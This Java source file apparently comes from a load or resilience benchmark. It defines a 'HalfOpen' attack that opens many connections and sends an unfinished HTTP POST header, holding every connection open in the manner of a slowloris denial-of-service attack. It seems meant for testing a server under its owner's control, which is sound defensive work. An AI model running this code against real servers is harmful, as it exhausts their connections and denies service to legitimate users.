package dev.punchline.bench.hostile;

import java.io.IOException;
import java.net.InetSocketAddress;
import java.nio.ByteBuffer;
import java.nio.channels.SocketChannel;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.locks.LockSupport;
import java.util.function.BooleanSupplier;

/**
 * Very many connections from one address that begin a request and never end it. All are kept open at this side.
 *
 * @param connections so many
 */
record HalfOpen(int connections) implements Attack {
    private static final byte[] BEGUN =
            "POST /v1/registrations HTTP/1.1\r\nHost: m\r\n".getBytes(StandardCharsets.US_ASCII);
    private static final int AT_ONCE = 50;
    private static final long BREATH_NANOS = 5_000_000;

    @Override
    public long run(Target target, BooleanSupplier goesOn) throws IOException {
        List<SocketChannel> channels = new ArrayList<>();
        try {
            while (goesOn.getAsBoolean()) {
                for (int i = 0; i < AT_ONCE && channels.size() < connections; i++) {
                    SocketChannel channel = SocketChannel.open();
                    channels.add(channel);
                    channel.bind(new InetSocketAddress(target.attacker(), 0));
                    begin(channel, target.http());
                }
                LockSupport.parkNanos(BREATH_NANOS);
            }
            return channels.size();
        } finally {
            for (SocketChannel channel : channels) {
                channel.close();
            }
        }
    }

    private static void begin(SocketChannel channel, InetSocketAddress server) throws IOException {
        channel.connect(server);
        try {
            channel.write(ByteBuffer.wrap(BEGUN));
        } catch (IOException e) {
            // turned away before it could say anything
        }
    }
}
